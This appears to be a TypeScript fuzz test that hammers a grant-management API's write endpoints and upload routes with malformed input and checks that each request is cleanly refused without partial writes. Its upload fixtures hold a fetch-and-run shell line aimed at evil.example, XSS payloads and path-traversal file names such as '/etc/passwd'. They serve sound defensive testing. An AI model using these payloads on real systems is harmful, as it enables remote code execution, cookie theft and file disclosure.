import { DeadlineReminderService } from '@cf/notifications';
import { ReportReminderService } from '@cf/projects';
import { ReviewReminderService } from '@cf/reviews';
import fc from 'fast-check';
import { readdirSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import request from 'supertest';
import {
  BAD_IDS,
  headerMutationArb,
  HeaderMutation,
  Mutation,
  mutatedJson,
  mutationArb,
  OpenApiDocument,
  Pools,
  validValue,
  wire,
  WriteOperation,
  writeOperations,
} from '../support/openapi-fuzz';
import { PDF } from '../support/proposal-fixtures';
import { apiRoutes, concrete } from '../support/routes';
import { call, startTestApp, TestApp } from '../support/test-app';

/**
 * Bad input, fuzzed (issue 7): every write operation of the OpenAPI document gets generated requests — bodies of the
 * operation's schema with one thing wrong (types, missing and extra fields, huge, hostile and unicode strings, odd
 * numbers, bad ids, deep nesting), lying headers, bad ids in the path, bad tokens — as a user holding every role and
 * as the role the route is for. Never a 5xx; every error has the envelope (`code`, `message`, and `errors[]` naming
 * the field for a 400); and no partial write: every table is checksummed before and after each batch of requests,
 * and a batch that was all refused must have changed nothing, the audit log included.
 *
 * Reproduce a failure with the seed it prints: FUZZ_SEED=<seed> (and FUZZ_OP="POST /api/..." for one operation).
 */

const SEED = Number(process.env.FUZZ_SEED ?? 7_2026);
const TOTAL = Number(process.env.FUZZ_REQUESTS ?? 10_400);
const ONLY_OPS = process.env.FUZZ_OP?.split(',').map((o) => o.trim());
const BATCH = 24;
const CONCURRENCY = 4;
const MAX_FAILURES = Number(process.env.FUZZ_MAX_FAILURES ?? 20);

/** Columns that background work (the outbox relay, letters, scenario solving, reminder sweeps) changes by itself. */
const VOLATILE: Record<string, string[]> = {
  outbox: ['dispatched_at', 'attempts', 'delivered_at', 'last_error', 'next_attempt_at', 'locked_until', 'locked_by'],
  decision_letters: ['status', 'storage_key', 'byte_size', 'sha256', 'generated_at', 'emailed_at', 'error', 'updated_at'],
  job_runs: ['status', 'processed_at', 'processed_by', 'attempts'],
  award_scenarios: ['status', 'outcome', 'error', 'computed_at', 'updated_at'],
  review_assignments: ['reminded_at'],
  project_reports: ['reminded_at', 'overdue_notified_at'],
};
/** Tables written on purpose by a refused request: a failed sign-in is counted (that is the lockout). */
const IGNORED = new Set(['login_failures']);

type Actor = 'everyone' | 'role';

interface FuzzCase {
  actor: Actor;
  params: Record<string, string>;
  valid: unknown;
  mutation: Mutation;
  headers: HeaderMutation;
}

interface Sent {
  op: WriteOperation;
  index: number;
  c: FuzzCase;
  status: number;
  body: Record<string, unknown>;
}

describe('fuzzing every write endpoint from the OpenAPI document', () => {
  let t: TestApp;
  let doc: OpenApiDocument;
  let allOps: WriteOperation[];
  let ops: WriteOperation[];
  let pools: Pools;
  const idsOf: Record<string, string[]> = {};
  const tokens: Record<string, string> = {};
  const roleOf: Record<string, string> = {};
  let snapshotSql = '';

  beforeAll(async () => {
    t = await startTestApp({
      LOGIN_MAX_FAILURES_PER_ACCOUNT: '100000',
      LOGIN_MAX_FAILURES_PER_ADDRESS: '100000',
      UPLOAD_MAX_BYTES: '65536',
      ...(process.env.FUZZ_LOG_LEVEL ? { LOG_LEVEL: process.env.FUZZ_LOG_LEVEL } : {}),
    });
    // The reminder sweeps write mails on a timer: stopped, so that only the fuzzer's requests change the data.
    for (const sweep of [DeadlineReminderService, ReviewReminderService, ReportReminderService])
      await t.app.get(sweep).onModuleDestroy();
    doc = (await t.http().get('/api/docs-json')).body;
    allOps = writeOperations(doc);
    ops = allOps.filter((o) => !ONLY_OPS || ONLY_OPS.includes(`${o.method} ${o.path}`));

    const admin = await t.token('admin@example.org');
    const [gb] = await t.dataSource.query(`SELECT id FROM institutions WHERE name = 'George Brown College'`);
    const everyone = await t
      .http()
      .post('/api/users')
      .set('Authorization', `Bearer ${admin}`)
      .send({
        email: 'fuzz-everyone@example.org',
        displayName: 'Fuzz Every Role',
        roles: ['applicant', 'reviewer', 'program_officer', 'approver', 'admin'],
        institutionId: gb.id,
        preferredLanguage: 'en',
        password: 'fuzz-everyone-password',
      });
    expect(everyone.status).toBe(201);
    tokens.everyone = await t.token('fuzz-everyone@example.org', 'fuzz-everyone-password');
    const accounts: Record<string, string> = {
      applicant: 'applicant@example.org',
      reviewer: 'reviewer@example.org',
      program_officer: 'officer@example.org',
      approver: 'approver@example.org',
      admin: 'admin@example.org',
    };
    for (const [role, email] of Object.entries(accounts)) tokens[role] = await t.token(email);

    // Ids of real records, by the resource a path parameter names; the accounts the fuzzer signs in with are left
    // out, so that it cannot deactivate itself.
    const actors = [...Object.values(accounts), 'fuzz-everyone@example.org'];
    const ids = async (sql: string, params: unknown[] = []) =>
      ((await t.dataSource.query(sql, params)) as { id: string }[]).map((r) => r.id);
    Object.assign(idsOf, {
      users: await ids(`SELECT id FROM users WHERE email <> ALL($1)`, [actors]),
      institutions: await ids(`SELECT id FROM institutions`),
      funds: await ids(`SELECT id FROM funds`),
      proposals: await ids(`SELECT id FROM proposals`),
      'partner-organizations': await ids(`SELECT id FROM partner_organizations`),
      reviewers: await ids(`SELECT r.user_id AS id FROM reviewers r JOIN users u ON u.id = r.user_id WHERE u.email <> ALL($1)`, [
        actors,
      ]),
      assignments: await ids(`SELECT id FROM review_assignments`),
      reviews: await ids(`SELECT id FROM reviews`),
      decisions: await ids(`SELECT id FROM award_decisions`),
      scenarios: await ids(`SELECT id FROM award_scenarios`),
      projects: await ids(`SELECT id FROM projects`),
      attachmentId: await ids(`SELECT id FROM attachments`),
      milestoneId: await ids(`SELECT id FROM project_milestones`),
      trancheId: await ids(`SELECT id FROM project_tranches`),
      reportId: await ids(`SELECT id FROM project_reports`),
      microCredentialId: await ids(`SELECT id FROM project_micro_credentials`),
    });
    idsOf.fundId = idsOf.funds;
    pools = { anyId: Object.values(idsOf).flat() };

    // The role each operation is for: the first demo account that the route's role check lets through.
    for (const op of ops) {
      for (const role of Object.keys(accounts)) {
        const res = await call(t, op.method, concrete(op.path)).set('Authorization', `Bearer ${tokens[role]}`).send({});
        if (res.status !== 403) {
          roleOf[key(op)] = role;
          break;
        }
      }
    }

    const tables: { name: string }[] = await t.dataSource.query(
      `SELECT table_name AS name FROM information_schema.tables WHERE table_schema = 'public' AND table_type = 'BASE TABLE' ORDER BY 1`,
    );
    snapshotSql = tables
      .filter((x) => !IGNORED.has(x.name))
      .map((x) => {
        const drop = (VOLATILE[x.name] ?? []).map((c) => `'${c}'`).join(',');
        const row = drop ? `(to_jsonb(x) - ARRAY[${drop}]::text[])::text` : `to_jsonb(x)::text`;
        return `SELECT '${x.name}' AS t, (SELECT count(*) || ':' || md5(coalesce(string_agg(r, '|' ORDER BY r), ''))
                  FROM (SELECT ${row} AS r FROM "${x.name}" x) s) AS v`;
      })
      .join(' UNION ALL ');
    await quiet();
  }, 120_000);
  afterAll(() => t?.stop(), 60_000);

  const key = (op: WriteOperation) => `${op.method} ${op.path}`;

  async function snapshot(): Promise<Map<string, string>> {
    const rows: { t: string; v: string }[] = await t.dataSource.query(snapshotSql);
    return new Map(rows.map((r) => [r.t, r.v]));
  }

  /** Waits until background work started by an accepted request is done (mails, letters, scenarios, jobs). */
  async function quiet(): Promise<void> {
    for (let i = 0; i < 100; i++) {
      const [{ n }] = await t.dataSource.query(
        `SELECT (SELECT count(*) FROM outbox WHERE delivered_at IS NULL AND last_error IS NULL)
              + (SELECT count(*) FROM award_scenarios WHERE status IN ('queued', 'running'))
              + (SELECT count(*) FROM job_runs WHERE status = 'queued')
              + (SELECT count(*) FROM decision_letters WHERE status = 'pending') AS n`,
      );
      if (Number(n) === 0) return;
      await new Promise((r) => setTimeout(r, 100));
    }
  }

  function caseArb(op: WriteOperation): fc.Arbitrary<FuzzCase> {
    const resource = op.path.split('/')[2];
    const param = (name: string) => {
      const own = idsOf[name] ?? (name === 'id' ? idsOf[resource] : undefined) ?? [];
      return fc.oneof(
        { weight: 6, arbitrary: own.length ? fc.constantFrom(...own) : fc.uuid() },
        { weight: 2, arbitrary: fc.constantFrom(...pools.anyId) },
        { weight: 1, arbitrary: fc.uuid() },
        { weight: 2, arbitrary: fc.constantFrom(...BAD_IDS) },
      );
    };
    return fc.record({
      actor: fc.constantFrom<Actor>('everyone', 'role'),
      params: fc.record(Object.fromEntries(op.pathParams.map((p) => [p, param(p)]))),
      valid: op.body?.contentType === 'application/json' ? validValue(doc, op.body.schema, pools) : fc.constant(null),
      mutation: mutationArb(pools),
      headers: headerMutationArb(),
    }) as fc.Arbitrary<FuzzCase>;
  }

  function send(op: WriteOperation, c: FuzzCase): request.Test {
    const url = concrete(
      op.path,
      Object.fromEntries(Object.entries(c.params).map(([k, v]) => [k, /%/.test(v) ? v : encodeURIComponent(v)])),
    );
    // Operations without a JSON body get one only when the case mutates one in (junk where none is expected).
    const json =
      op.body?.contentType === 'application/json' || c.mutation.kind !== 'none' ? mutatedJson(c.valid, c.mutation) : null;
    const w = wire(json, c.headers);
    let req = call(t, op.method, url).timeout(60_000);
    const token = tokens[c.actor === 'everyone' ? 'everyone' : (roleOf[key(op)] ?? 'everyone')];
    req = req.set('Authorization', `Bearer ${token}`);
    for (const [name, value] of Object.entries(w.headers)) req = req.set(name, value);
    return w.body === null ? req : req.send(w.body);
  }

  function describeCase(op: WriteOperation, index: number, c: FuzzCase): string {
    const text = JSON.stringify(c, (_k, v: unknown) => (typeof v === 'string' && v.length > 200 ? `${v.slice(0, 200)}…` : v));
    return `seed ${SEED}, ${key(op)} case #${index} (FUZZ_SEED=${SEED} FUZZ_OP="${key(op)}"): ${text}`;
  }

  /** The failures of one response: a 5xx, an error without the envelope, a bad token let through. */
  function problems(s: Sent): string[] {
    const out: string[] = [];
    const b = s.body ?? {};
    if (s.status >= 500) out.push(`answered ${s.status} ${JSON.stringify(b)}`);
    if (s.status >= 400) {
      if (b.statusCode !== s.status || typeof b.code !== 'string' || typeof b.message !== 'string' || !b.message)
        out.push(`${s.status} without the error envelope: ${JSON.stringify(b).slice(0, 300)}`);
      if (s.status === 400) {
        const errors = b.errors as { field?: unknown; reason?: unknown }[] | undefined;
        if (
          !Array.isArray(errors) ||
          !errors.length ||
          errors.some((e) => typeof e.field !== 'string' || typeof e.reason !== 'string')
        )
          out.push(`400 without errors[] naming a field: ${JSON.stringify(b).slice(0, 300)}`);
      }
    }
    const publicOp = ['POST /api/auth/login', 'POST /api/auth/refresh'].includes(key(s.op));
    if (s.c.headers.kind === 'authorization' && !publicOp && s.status !== 401 && s.status !== 400 && s.status !== 413)
      out.push(`a bad Authorization header was answered ${s.status}`);
    return out;
  }

  /** What the fuzzer found, one request each: every one was a 500 (or a 400 without the field) before its fix. */
  it('answers the inputs the fuzzer found with a 400 naming the field', async () => {
    const officer = `Bearer ${tokens.program_officer}`;
    const admin = `Bearer ${tokens.admin}`;
    const [fund] = await t.dataSource.query(`SELECT id FROM funds WHERE code = 'MCF-2021'`);
    const [confirmed] = await t.dataSource.query(`SELECT id FROM award_decisions WHERE status = 'confirmed' LIMIT 1`);
    const [proposal] = await t.dataSource.query(`SELECT id FROM proposals WHERE submitted_version > 0 LIMIT 1`);
    const raw = (method: string, url: string, auth: string, json: string) =>
      call(t, method, url).set('Authorization', auth).set('Content-Type', 'application/json').send(json);
    const cases: [string, Promise<request.Response>, string][] = [
      // class-validator's IsNumber({ maxDecimalPlaces }) threw on a number written with an exponent
      [
        'a number with an exponent (moderation)',
        raw('PUT', `/api/proposals/${proposal.id}/moderation`, officer, '{"consensusScore":5e-324,"rationale":"x"}'),
        'consensusScore',
      ],
      [
        'a number with an exponent (review settings)',
        raw(
          'PUT',
          `/api/funds/${fund.id}/review-settings`,
          officer,
          '{"reviewersPerProposal":3,"conflictLookbackYears":2,"reviewDays":14,"reminderDaysBefore":2,"disagreementThreshold":1e-7,"minReviewsToNormalize":3,"peerScoresAfterSubmit":false,"version":0}',
        ),
        'disagreementThreshold',
      ],
      // class-transformer recursed into a deeply nested value until the stack overflowed
      [
        'a value nested 20,000 deep',
        raw('POST', '/api/institutions', admin, `{"name":${'['.repeat(20_000)}${']'.repeat(20_000)},"type":"public_college"}`),
        'name',
      ],
      // PostgreSQL refuses NUL in text
      [
        'a NUL character',
        raw('POST', `/api/decisions/${confirmed.id}/rescind`, officer, '{"reason":"before\\u0000after"}'),
        'reason',
      ],
      // validator's isEmail calls encodeURI, which throws on a lone surrogate
      [
        'a lone surrogate',
        raw(
          'POST',
          '/api/users',
          admin,
          '{"email":"lone\\udc00@example.org","displayName":"x","roles":["reviewer"],"preferredLanguage":"en","password":"long-enough-1"}',
        ),
        'email',
      ],
      // a required nested object was not checked for presence
      ['a missing nested object', raw('POST', '/api/scenarios', officer, `{"fundId":"${fund.id}","name":"No params"}`), 'params'],
      // ParseUUIDPipe answered a 400 without errors[]
      ['an id that is not a UUID', raw('POST', '/api/users/not-a-uuid/deactivate', admin, '{}'), 'id'],
      // a body that says it is compressed and is not: a 400 without errors[]
      [
        'a lying Content-Encoding',
        raw('PUT', '/api/auth/me/preferences', admin, '{"preferredLanguage":"en"}').set('Content-Encoding', 'gzip'),
        'body',
      ],
    ];
    for (const [what, pending, field] of cases) {
      const res = await pending;
      expect({ what, status: res.status, fields: (res.body.errors ?? []).map((e: { field: string }) => e.field) }).toEqual({
        what,
        status: 400,
        fields: expect.arrayContaining([field]),
      });
    }
    // the same NUL in a list filter reaches the database through a query string: a 400 too
    const list = await t
      .http()
      .get(`/api/proposals?filter=${encodeURIComponent('{"q":"a\u0000b"}')}`)
      .set('Authorization', officer);
    expect(list.status).toBe(400);
  }, 60_000);

  it('refuses uploads with a lying content type, an oversized body or a path in the file name, leaving no file', async () => {
    // the attachments of George Brown College's draft in the open round, as its applicant
    const [draft] = await t.dataSource.query(
      `SELECT p.id FROM proposals p JOIN institutions i ON i.id = p.institution_id JOIN funds f ON f.id = p.fund_id
        WHERE i.name = 'George Brown College' AND p.status = 'draft' AND f.status = 'open'`,
    );
    // the signed agreement of a project whose agreement is not signed yet: one the demo has, or the project of the
    // award awaiting the approver, confirmed now; its agreement is sent if it is still a draft
    let [project] = await t.dataSource.query(
      `SELECT id, agreement_status FROM projects WHERE status = 'agreement_pending' AND agreement_status <> 'signed' LIMIT 1`,
    );
    if (!project) {
      const [pending] = await t.dataSource.query(
        `SELECT id FROM award_decisions WHERE status = 'recommended' AND kind IN ('fund_full', 'fund_partial') LIMIT 1`,
      );
      if (!pending) throw new Error('the demo has neither a project awaiting its agreement nor an award to confirm');
      const confirmed = await t
        .http()
        .post(`/api/decisions/${pending.id}/confirm`)
        .set('Authorization', `Bearer ${tokens.approver}`)
        .send({ note: 'Confirmed for the upload checks' });
      expect(confirmed.status).toBeLessThan(300);
      [project] = await t.dataSource.query(`SELECT id, agreement_status FROM projects WHERE award_decision_id = $1`, [
        pending.id,
      ]);
    }
    if (project.agreement_status === 'draft') {
      const sent = await t
        .http()
        .post(`/api/projects/${project.id}/agreement/send`)
        .set('Authorization', `Bearer ${tokens.program_officer}`)
        .send({});
      expect(sent.status).toBe(200);
    }

    const routes = [
      { url: `/api/proposals/${draft.id}/attachments`, token: tokens.applicant, kind: true, ok: 201, folder: 'attachments' },
      {
        url: `/api/projects/${project.id}/agreement/document`,
        token: tokens.program_officer,
        kind: false,
        ok: 200,
        folder: 'agreements',
      },
    ];
    // the files of the store under one prefix (the decision letters of the confirmation are written beside them)
    const filesIn = (folder: string) => {
      try {
        return readdirSync(join(t.env.DATA_DIR, 'uploads', folder), { recursive: true, withFileTypes: true }).filter((e) =>
          e.isFile(),
        ).length;
      } catch {
        return 0;
      }
    };
    const upload = fc.record({
      content: fc.constantFrom(...(Object.keys(CONTENTS) as (keyof typeof CONTENTS)[])),
      declared: fc.constantFrom(
        'application/pdf',
        'image/png',
        'image/jpeg',
        'text/html',
        'application/x-msdownload',
        'image/svg+xml',
      ),
      name: fc.constantFrom(...SAFE_NAMES, ...TRAVERSAL_NAMES),
      oversized: fc.boolean(),
    });
    const mismatches: object[] = [];
    for (const [i, route] of routes.entries()) {
      let accepted = 0;
      const files = () => filesIn(route.folder);
      const before = files();
      for (const [n, u] of fc.sample(upload, { seed: SEED + 1000 + i, numRuns: 60 }).entries()) {
        const bytes =
          u.oversized && u.content !== 'empty'
            ? Buffer.concat([CONTENTS[u.content], Buffer.alloc(70 * 1024, 0x20)])
            : CONTENTS[u.content];
        // built by hand: a client library would cut the name down to its last part before sending it
        const form = multipart([
          ...(route.kind ? [{ name: 'kind', value: 'other' }] : []),
          { name: 'file', value: bytes, filename: u.name, contentType: u.declared },
        ]);
        const res = await t
          .http()
          .post(route.url)
          .set('Authorization', `Bearer ${route.token}`)
          .set('Content-Type', form.contentType)
          .send(form.body);
        // what the server must answer: the name is checked first, then emptiness and the type (by content, never by
        // the declared type or the name), then the size while streaming
        const want = TRAVERSAL_NAMES.includes(u.name)
          ? 400
          : u.content === 'empty'
            ? 400
            : !['pdf', 'png', 'jpeg'].includes(u.content)
              ? 415
              : u.oversized
                ? 413
                : route.ok;
        const stored = res.body.contentType ?? res.body.agreement?.documentContentType;
        // a NUL in the name breaks the part's header itself: refused as malformed multipart (the body)
        const field = u.name.includes('\u0000') ? 'body' : 'file';
        if (res.status !== want || (want === 400 && res.body.errors?.[0]?.field !== field)) {
          mismatches.push({
            route: route.url,
            case: n,
            upload: { ...u, name: u.name.slice(0, 60) },
            want,
            status: res.status,
            body: res.body,
          });
        } else if (want === route.ok) {
          accepted++;
          if (route.kind && stored !== MIME[u.content]) mismatches.push({ case: n, typedAs: stored, content: u.content });
        }
      }
      // every refused upload left nothing in the store (a file being streamed when the upload was refused is removed
      // as its stream ends, just after the answer): only the accepted ones added a file
      for (let wait = 0; wait < 40 && files() - before !== accepted; wait++) await new Promise((r) => setTimeout(r, 50));
      if (files() - before !== accepted) mismatches.push({ route: route.url, filesAdded: files() - before, accepted });
    }
    if (process.env.FUZZ_FAILURES_FILE) writeFileSync(process.env.FUZZ_FAILURES_FILE, JSON.stringify(mismatches, null, 1));
    expect(mismatches).toEqual([]);
  }, 60_000);

  /** Whether a case is wrong whatever the state: its batch should be refused entirely. */
  function surelyRefused(c: FuzzCase): boolean {
    return (
      ['contentType', 'malformedJson', 'badBytes', 'encoding', 'authorization'].includes(c.headers.kind) ||
      Object.values(c.params).some((v) => BAD_IDS.includes(v)) ||
      ['wrongType', 'deepNesting', 'topLevel', 'manyKeys', 'longArray'].includes(c.mutation.kind) ||
      (c.mutation.kind === 'hugeString' && c.mutation.size > 100_000)
    );
  }

  it('answers at least 10,000 generated requests without a 5xx, with the error envelope, and writes nothing when it refuses', async () => {
    const writeRoutes = apiRoutes(t.app)
      .filter((r) => ['POST', 'PUT', 'PATCH', 'DELETE'].includes(r.method))
      .map((r) => `${r.method} ${r.path}`);
    if (!ONLY_OPS) expect(writeRoutes.filter((r) => !ops.some((o) => key(o) === r))).toEqual([]); // the document covers the router

    const failures: string[] = [];
    const stats = { requests: 0, refused: 0, accepted: 0, batches: 0, checkedBatches: 0, checkedRequests: 0 };
    const statusCounts: Record<number, number> = {};
    const started = Date.now();
    await quiet(); // the letters of the decision the upload test confirmed
    let before = await snapshot();

    const perOp = Math.ceil(TOTAL / allOps.length);
    for (const op of ops) {
      // each operation has its own stream of cases (the seed plus its place in the document), so one can be rerun alone
      const sampled = fc.sample(caseArb(op), { seed: SEED + allOps.indexOf(op), numRuns: perOp });
      // Cases that must be refused are batched together, so that most batches are all refused and checked for writes.
      const cases = [...sampled.map((c, index) => ({ c, index }))].sort(
        (a, b) => Number(surelyRefused(b.c)) - Number(surelyRefused(a.c)) || a.index - b.index,
      );
      for (let start = 0; start < cases.length; start += BATCH) {
        const batch = cases.slice(start, start + BATCH);
        const sent: Sent[] = [];
        const queue = [...batch];
        await Promise.all(
          Array.from({ length: CONCURRENCY }, async () => {
            for (let next = queue.shift(); next; next = queue.shift()) {
              let status: number;
              let body: Record<string, unknown>;
              try {
                const res = await send(op, next.c);
                status = res.status;
                body = res.body;
              } catch (e) {
                status = 599;
                body = { transport: String(e) };
              }
              sent.push({ op, index: next.index, c: next.c, status, body });
            }
          }),
        );
        stats.requests += sent.length;
        stats.batches++;
        for (const s of sent) {
          statusCounts[s.status] = (statusCounts[s.status] ?? 0) + 1;
          for (const p of problems(s)) failures.push(`${p}\n    ${describeCase(op, s.index, s.c)}`);
        }
        const allRefused = sent.every((s) => s.status >= 400);
        if (allRefused) {
          stats.refused += sent.length;
          const after = await snapshot();
          const changed = [...after.keys()].filter((k) => after.get(k) !== before.get(k));
          if (changed.length) {
            failures.push(
              `a batch refused entirely changed ${changed.map((k) => `${k} (${before.get(k)} → ${after.get(k)})`).join(', ')}\n    ${sent
                .map((s) => `${s.status} ${describeCase(op, s.index, s.c)}`)
                .join('\n    ')}`,
            );
          }
          stats.checkedBatches++;
          stats.checkedRequests += sent.length;
          before = after;
        } else {
          stats.accepted += sent.filter((s) => s.status < 400).length;
          stats.refused += sent.filter((s) => s.status >= 400).length;
          await quiet();
          before = await snapshot();
        }
        if (failures.length > MAX_FAILURES) break;
      }
      if (failures.length > MAX_FAILURES) break;
    }
    const seconds = (Date.now() - started) / 1000;
    console.log(
      `fuzz (seed ${SEED}): ${stats.requests} requests to ${ops.length} write operations in ${seconds.toFixed(1)} s; ` +
        `${stats.accepted} accepted, ${stats.refused} refused; ${stats.checkedRequests} requests in ${stats.checkedBatches} ` +
        `all-refused batches checked for writes; statuses ${JSON.stringify(statusCounts)}`,
    );
    if (process.env.FUZZ_FAILURES_FILE) writeFileSync(process.env.FUZZ_FAILURES_FILE, failures.join('\n'));
    expect(failures.slice(0, 20)).toEqual([]);
    if (!ONLY_OPS) {
      expect(stats.requests).toBeGreaterThanOrEqual(10_000);
      expect(stats.checkedRequests).toBeGreaterThan(stats.requests / 2);
    }
  }, 600_000);
});

/** Upload contents, by what they really are. */
const CONTENTS = {
  pdf: PDF,
  png: Buffer.from('iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNkYPhfDwAChwGA60e6kgAAAABJRU5ErkJggg==', 'base64'),
  jpeg: Buffer.concat([Buffer.from([0xff, 0xd8, 0xff, 0xe0, 0x00, 0x10, 0x4a, 0x46, 0x49, 0x46, 0x00, 0x01]), Buffer.alloc(200)]),
  script: Buffer.from('#!/bin/sh\ncurl http://evil.example | sh\n'),
  html: Buffer.from('<html><body><script>alert(document.cookie)</script></body></html>'),
  svg: Buffer.from('<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"></svg>'),
  exe: Buffer.concat([Buffer.from('MZ'), Buffer.alloc(510)]),
  zip: Buffer.concat([Buffer.from([0x50, 0x4b, 0x03, 0x04]), Buffer.alloc(100)]),
  gif: Buffer.concat([Buffer.from('GIF89a'), Buffer.alloc(50)]),
  empty: Buffer.alloc(0),
};
const MIME: Record<string, string> = { pdf: 'application/pdf', png: 'image/png', jpeg: 'image/jpeg' };
const SAFE_NAMES = [
  'letter.pdf',
  'lettre d’appui – été.pdf',
  'CON',
  '.pdf',
  `${'x'.repeat(300)}.pdf`,
  'shell.php.pdf',
  '%2e%2e%2fx.pdf',
  'scan.png.exe',
];
const TRAVERSAL_NAMES = [
  '../../../../etc/passwd',
  '..\\..\\..\\windows\\win.ini',
  '/etc/passwd',
  'C:\\Users\\Public\\letter.pdf',
  'uploads/../../escape.pdf',
  '..',
  'letter.pdf\u0000.exe',
  './letter.pdf',
];

/** A multipart/form-data body, with the file name exactly as given (quoted-string: `"` and `\\` escaped). */
function multipart(parts: { name: string; value: string | Buffer; filename?: string; contentType?: string }[]): {
  body: Buffer;
  contentType: string;
} {
  const boundary = '----fuzz-boundary-7f3a';
  const quote = (v: string) => `"${v.replace(/[\\"]/g, (c) => `\\${c}`)}"`;
  const chunks: Buffer[] = [];
  for (const p of parts) {
    const disposition = `form-data; name=${quote(p.name)}${p.filename === undefined ? '' : `; filename=${quote(p.filename)}`}`;
    const head = `--${boundary}\r\nContent-Disposition: ${disposition}\r\n${p.contentType ? `Content-Type: ${p.contentType}\r\n` : ''}\r\n`;
    chunks.push(Buffer.from(head, 'utf8'), Buffer.isBuffer(p.value) ? p.value : Buffer.from(p.value), Buffer.from('\r\n'));
  }
  chunks.push(Buffer.from(`--${boundary}--\r\n`));
  return { body: Buffer.concat(chunks), contentType: `multipart/form-data; boundary=${boundary}` };
}
